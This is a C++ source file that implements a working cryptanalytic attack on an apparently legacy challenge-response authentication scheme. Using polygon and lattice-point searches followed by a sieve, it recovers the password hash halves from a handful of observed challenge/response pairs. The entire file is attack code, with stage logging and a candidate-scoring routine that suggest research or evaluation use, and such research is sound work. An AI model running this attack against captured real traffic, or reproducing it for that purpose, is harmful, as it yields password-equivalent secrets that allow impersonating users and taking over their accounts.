#include "oldauth/attack.hpp"

#include "oldauth/error.hpp"

#include <algorithm>
#include <chrono>
#include <map>
#include <random>
#include <set>

namespace oldauth {

namespace {

using Clock = std::chrono::steady_clock;

double seconds_since(Clock::time_point start) {
  return std::chrono::duration<double>(Clock::now() - start).count();
}

bool polygon_less(const ConvexPolygon& a, const ConvexPolygon& b) {
  return std::lexicographical_compare(a.vertices().begin(), a.vertices().end(),
                                      b.vertices().begin(), b.vertices().end());
}

void check_response(const ChallengeResponsePair& pair, const ScrambleParams& params) {
  if (pair.response.bytes.size() != static_cast<std::size_t>(params.rounds)) {
    throw MalformedInput("response has " + std::to_string(pair.response.bytes.size()) +
                         " bytes, expected " + std::to_string(params.rounds));
  }
}

struct StripSearch {
  const ScrambleParams& params;
  std::vector<LinearForm> forms;
  std::vector<std::uint32_t> digits;
  std::vector<ConvexPolygon> found;

  void descend(const ConvexPolygon& poly, std::size_t level) {
    if (level == forms.size()) {
      found.push_back(poly);
      return;
    }
    const LinearForm& form = forms[level];
    const std::uint32_t digit = digits[level];
    const BigInt n = params.modulus;
    const BigInt span = params.digit_span;
    const BigInt offset = BigInt(params.additive) * form.gamma;

    // span*(L + offset) over the fragment, against strips
    // [digit*n + span*delta*n, (digit+1)*n + span*delta*n).
    auto [lo, hi] = functional_range(poly, form.alpha, form.beta);
    Rational t_lo = Rational(span) * (lo + Rational(offset));
    Rational t_hi = Rational(span) * (hi + Rational(offset));
    const BigInt step = span * n;
    BigInt first = floor_div(t_lo.num() - (digit + 1) * n * t_lo.den(), step * t_lo.den()) + 1;
    BigInt last = floor_div(t_hi.num() - digit * n * t_hi.den(), step * t_hi.den());
    first = std::max(first, BigInt(0));
    last = std::min(last, form.delta_max);

    for (BigInt delta = first; delta <= last; ++delta) {
      auto [lower, upper] = digit_strip(form, digit, delta, params);
      ConvexPolygon next = intersect_halfplane(poly, lower);
      if (next.empty()) continue;
      next = intersect_halfplane(next, upper);
      if (next.empty()) continue;
      descend(next, level + 1);
    }
  }
};

}  // namespace

ChallengeResponsePair ChallengeResponsePair::from_text(std::string text, Response response) {
  ChallengeResponsePair pair;
  pair.challenge_hash = hash_password(text);
  pair.challenge_text = std::move(text);
  pair.response = std::move(response);
  return pair;
}

Rational PolygonSet::total_area() const {
  Rational total;
  for (const auto& p : polygons) total += area(p);
  return total;
}

void AttackConfig::validate(const ScrambleParams& params) const {
  if (p1_pairs < 2) throw MalformedInput("p1_pairs must be at least 2");
  if (cell_exponents.empty()) throw MalformedInput("cell exponent schedule is empty");
  for (std::size_t i = 0; i < cell_exponents.size(); ++i) {
    const int m = cell_exponents[i];
    if (m < 0 || m >= params.half_width_bits) {
      throw MalformedInput("cell exponent " + std::to_string(m) + " outside [0, W)");
    }
    if (i > 0 && m >= cell_exponents[i - 1]) {
      throw MalformedInput("cell exponents must be strictly decreasing");
    }
  }
  if (sieve_budget == 0) throw MalformedInput("sieve budget must be positive");
  if (password_bits < 0 || password_bits > params.half_width_bits) {
    throw MalformedInput("password_bits must be in [0, W]");
  }
}

int AttackConfig::effective_password_bits(const ScrambleParams& params) const {
  if (password_bits > 0) return password_bits;
  return std::min(31, params.half_width_bits);
}

std::pair<HalfPlane, HalfPlane> digit_strip(const LinearForm& form, std::uint32_t digit,
                                            const BigInt& delta, const ScrambleParams& params) {
  const BigInt n = params.modulus;
  const BigInt span = params.digit_span;
  const BigInt shift = span * delta * n - span * BigInt(params.additive) * form.gamma;
  const BigInt a = span * form.alpha;
  const BigInt b = span * form.beta;
  return {HalfPlane::at_least(a, b, Rational(BigInt(digit) * n + shift)),
          HalfPlane::below(a, b, Rational(BigInt(digit + 1) * n + shift))};
}

std::vector<ConvexPolygon> polygons_for_mask(const ChallengeResponsePair& pair,
                                             std::uint32_t mask, const ScrambleParams& params) {
  check_response(pair, params);
  if (mask >= params.digit_span) return {};

  StripSearch search{params, {}, {}, {}};
  for (int i = 0; i < params.rounds; ++i) {
    const std::uint32_t w = pair.response.bytes[static_cast<std::size_t>(i)] ^ mask;
    if (w < params.digit_offset || w - params.digit_offset >= params.digit_span) return {};
    search.digits.push_back(w - params.digit_offset);
  }
  search.digits.push_back(mask);
  for (int i = 1; i <= params.rounds + 1; ++i) {
    search.forms.push_back(linear_coefficients(i, params));
  }

  const BigInt limit = BigInt(1) << params.half_width_bits;
  search.descend(ConvexPolygon::box(0, 0, limit, limit, true), 0);

  auto& found = search.found;
  std::sort(found.begin(), found.end(), polygon_less);
  found.erase(std::unique(found.begin(), found.end()), found.end());
  return std::move(found);
}

std::vector<MaskSurvivor> recover_w9(const ChallengeResponsePair& pair,
                                     const ScrambleParams& params) {
  std::vector<MaskSurvivor> out;
  for (std::uint32_t k = 0; k < 32; ++k) {
    auto polys = polygons_for_mask(pair, k, params);
    if (polys.empty()) continue;
    out.push_back({k, PolygonSet{std::move(polys), pair, k, {k}}});
  }
  return out;
}

PolygonSet procedure1(const ChallengeResponsePair& pair, const ScrambleParams& params) {
  auto survivors = recover_w9(pair, params);
  if (survivors.empty()) {
    throw NoPolygonError("no extra-digit value yields a polygon for response " +
                         pair.response.hex());
  }
  PolygonSet merged = std::move(survivors.front().set);
  for (std::size_t i = 1; i < survivors.size(); ++i) {
    auto& extra = survivors[i].set.polygons;
    merged.polygons.insert(merged.polygons.end(), extra.begin(), extra.end());
    merged.w9_candidates.push_back(survivors[i].w9);
  }
  std::sort(merged.polygons.begin(), merged.polygons.end(), polygon_less);
  return merged;
}

std::vector<CellPiece> wrap_pieces(const PolygonSet& set, const ScrambleParams& params) {
  std::vector<CellPiece> pieces;
  pieces.reserve(set.polygons.size());
  for (std::size_t i = 0; i < set.polygons.size(); ++i) {
    pieces.push_back({DyadicCell{0, 0, params.half_width_bits}, set.polygons[i], i});
  }
  return pieces;
}

DyadicCell password_cell(const DyadicCell& cell, HashHalves challenge) {
  if (cell.m >= 32) return cell;
  return {cell.ix ^ (challenge.h1 >> cell.m), cell.iy ^ (challenge.h2 >> cell.m), cell.m};
}

std::vector<CellPiece> procedure2(const std::vector<CellPiece>& current,
                                  const ChallengeResponsePair& current_pair,
                                  const PolygonSet& other, int m) {
  std::vector<CellPiece> refined;
  for (const auto& piece : current) {
    if (piece.cell.m < m) {
      throw MalformedInput("procedure2 cannot coarsen pieces from 2^" +
                           std::to_string(piece.cell.m) + " to 2^" + std::to_string(m));
    }
    if (piece.cell.m == m) {
      refined.push_back(piece);
      continue;
    }
    for (auto& part : split_into_cells(piece.fragment, m)) {
      refined.push_back({part.cell, std::move(part.fragment), piece.polygon_index});
    }
  }

  // Join on password-space cells: a refined piece at seed cell q survives iff
  // the other pair's seed cell for the same password cell is occupied.
  std::map<DyadicCell, bool> occupied;
  for (const auto& piece : refined) {
    const DyadicCell target = password_cell(password_cell(piece.cell, current_pair.challenge_hash),
                                            other.pair.challenge_hash);
    occupied.emplace(target, false);
  }

  struct Extent {
    BigInt xmin, xmax, ymin, ymax;
  };
  std::vector<Extent> extents;
  extents.reserve(other.polygons.size());
  for (const auto& poly : other.polygons) {
    const BoundingBox bb = bounding_box(poly);
    extents.push_back({bb.xmin.floor(), bb.xmax.ceil(), bb.ymin.floor(), bb.ymax.ceil()});
  }
  for (auto& [cell, hit] : occupied) {
    const BigInt x0 = cell.x0();
    const BigInt y0 = cell.y0();
    const BigInt side = cell.side();
    for (std::size_t i = 0; i < other.polygons.size() && !hit; ++i) {
      const Extent& e = extents[i];
      if (e.xmax < x0 || e.xmin >= x0 + side || e.ymax < y0 || e.ymin >= y0 + side) continue;
      hit = !clip_to_cell(other.polygons[i], cell).empty();
    }
  }

  std::vector<CellPiece> kept;
  for (auto& piece : refined) {
    const DyadicCell target = password_cell(password_cell(piece.cell, current_pair.challenge_hash),
                                            other.pair.challenge_hash);
    if (occupied.at(target)) kept.push_back(std::move(piece));
  }
  return kept;
}

CandidateSet extract_points(const std::vector<CellPiece>& pieces,
                            const ChallengeResponsePair& pair, std::size_t budget,
                            std::uint64_t password_limit) {
  CandidateSet out;
  const HashHalves c = pair.challenge_hash;
  bool over = false;
  std::size_t seen = 0;
  for (const auto& piece : pieces) {
    for_each_lattice_point(piece.fragment, [&](const LatticePoint& p) {
      if (seen++ == budget) {
        over = true;
        return false;
      }
      const HashHalves h = HashHalves{static_cast<std::uint32_t>(p.x),
                                      static_cast<std::uint32_t>(p.y)} ^ c;
      if (password_limit == 0 || (h.h1 < password_limit && h.h2 < password_limit)) {
        out.points.push_back(h);
      }
      return true;
    });
    if (over) {
      throw BudgetExceeded("surviving region holds more than " + std::to_string(budget) +
                               " lattice points; add pairs or finer cell rounds",
                           budget);
    }
  }
  std::sort(out.points.begin(), out.points.end());
  out.points.erase(std::unique(out.points.begin(), out.points.end()), out.points.end());
  out.pairs_survived = 1;
  return out;
}

CandidateSet procedure3(const CandidateSet& candidates, const ChallengeResponsePair& pair,
                        const ScrambleParams& params) {
  check_response(pair, params);
  CandidateSet out;
  out.pairs_survived = candidates.pairs_survived + 1;
  for (const auto& z : candidates.points) {
    if (scramble(z, pair.challenge_hash, params) == pair.response) out.points.push_back(z);
  }
  return out;
}

AttackResult run_attack(const std::vector<ChallengeResponsePair>& pairs,
                        const AttackConfig& config, const ScrambleParams& params,
                        const AttackObserver* observer) {
  params.validate();
  config.validate(params);
  if (pairs.size() < 2) throw MalformedInput("the attack needs at least two pairs");
  {
    std::set<HashHalves> seen;
    for (const auto& pair : pairs) {
      check_response(pair, params);
      if (!seen.insert(pair.challenge_hash).second) {
        throw MalformedInput("duplicate challenge " + to_string(pair.challenge_hash));
      }
    }
  }

  const auto attack_start = Clock::now();
  AttackResult result;
  const std::size_t exact = std::min(config.p1_pairs, pairs.size());

  std::vector<PolygonSet> sets;
  for (std::size_t i = 0; i < exact; ++i) {
    const auto start = Clock::now();
    PolygonSet set;
    try {
      set = procedure1(pairs[i], params);
    } catch (const NoPolygonError& e) {
      throw NoPolygonError("pair " + std::to_string(i) + ": " + e.what());
    }
    if (set.w9_candidates.size() > 1) {
      result.warnings.push_back("pair " + std::to_string(i) + ": " +
                                std::to_string(set.w9_candidates.size()) +
                                " extra-digit values survive; using their union");
    }
    StageLog log;
    log.stage = "procedure1";
    log.pair = static_cast<int>(i);
    log.polygons = set.polygons.size();
    log.area = set.total_area().to_double();
    log.w9 = set.w9_candidates;
    log.seconds = seconds_since(start);
    result.stages.push_back(std::move(log));
    if (observer && observer->on_polygon_set) observer->on_polygon_set(i, set);
    sets.push_back(std::move(set));
  }

  // More cell rounds than sets: cycle through the other sets again at the
  // finer exponents. More sets than exponents: reuse the last exponent.
  std::vector<CellPiece> pieces = wrap_pieces(sets.front(), params);
  const int bits = config.effective_password_bits(params);
  const std::uint64_t password_limit = std::uint64_t{1} << bits;
  const HashHalves c0 = pairs.front().challenge_hash;
  if (bits < params.half_width_bits && c0.h1 < password_limit && c0.h2 < password_limit) {
    // p < 2^bits iff p^c < 2^bits, so the box also bounds the seed space
    std::vector<CellPiece> boxed;
    for (auto& piece : pieces) {
      auto part = clip_to_cell(piece.fragment, DyadicCell{0, 0, bits});
      if (!part.empty()) boxed.push_back({DyadicCell{0, 0, bits}, std::move(part), piece.polygon_index});
    }
    pieces = std::move(boxed);
  }
  const std::size_t others = sets.size() - 1;
  const std::size_t rounds = std::max(others, config.cell_exponents.size());
  for (std::size_t r = 0; r < rounds && !pieces.empty(); ++r) {
    const auto start = Clock::now();
    const int m = config.cell_exponents[std::min(r, config.cell_exponents.size() - 1)];
    const PolygonSet& other = sets[1 + r % others];
    pieces = procedure2(pieces, pairs.front(), other, m);

    StageLog log;
    log.stage = "procedure2";
    log.pair = static_cast<int>(1 + r % others);
    log.round = static_cast<int>(r + 1);
    log.cell_exponent = m;
    log.pieces = pieces.size();
    Rational total;
    for (const auto& p : pieces) total += area(p.fragment);
    log.area = total.to_double();
    log.seconds = seconds_since(start);
    result.stages.push_back(std::move(log));
    if (observer && observer->on_pieces) observer->on_pieces(static_cast<int>(r + 1), m, pieces);
  }

  {
    const auto start = Clock::now();
    try {
      result.candidates = extract_points(pieces, pairs.front(), config.sieve_budget, password_limit);
    } catch (const BudgetExceeded& e) {
      throw BudgetExceeded(std::string("extraction: ") + e.what(), e.budget());
    }
    StageLog log;
    log.stage = "extract";
    log.pieces = pieces.size();
    log.points = result.candidates.points.size();
    log.survivors = result.candidates.points.size();
    log.seconds = seconds_since(start);
    result.stages.push_back(std::move(log));
    if (observer && observer->on_extracted) observer->on_extracted(result.candidates);
  }

  // Pairs 1..exact-1 only passed the cell filter, so they are sieved too;
  // the early stop applies to the remaining pairs.
  for (std::size_t j = 1; j < pairs.size(); ++j) {
    if (result.candidates.points.empty()) break;
    if (j >= exact && config.stop_when_unique && result.candidates.points.size() == 1) break;
    const auto start = Clock::now();
    result.candidates = procedure3(result.candidates, pairs[j], params);
    StageLog log;
    log.stage = "procedure3";
    log.pair = static_cast<int>(j);
    log.survivors = result.candidates.points.size();
    log.seconds = seconds_since(start);
    result.stages.push_back(std::move(log));
    if (observer && observer->on_sieved) observer->on_sieved(j, result.candidates);
  }

  result.seconds = seconds_since(attack_start);
  return result;
}

std::vector<CandidateScore> score_candidates(const CandidateSet& candidates, HashHalves truth,
                                             std::size_t trials, std::uint64_t seed,
                                             const ScrambleParams& params) {
  if (trials == 0) throw MalformedInput("score needs at least one trial");
  std::mt19937_64 rng(seed);
  std::vector<HashHalves> challenges;
  std::vector<Response> expected;
  challenges.reserve(trials);
  expected.reserve(trials);
  for (std::size_t t = 0; t < trials; ++t) {
    challenges.push_back(random_challenge_hash(rng, params));
    expected.push_back(scramble(truth, challenges.back(), params));
  }

  std::vector<CandidateScore> scores;
  scores.reserve(candidates.points.size());
  for (const auto& z : candidates.points) {
    CandidateScore s{z, 0, trials};
    for (std::size_t t = 0; t < trials; ++t) {
      if (scramble(z, challenges[t], params) == expected[t]) ++s.passed;
    }
    scores.push_back(s);
  }
  return scores;
}

}  // namespace oldauth
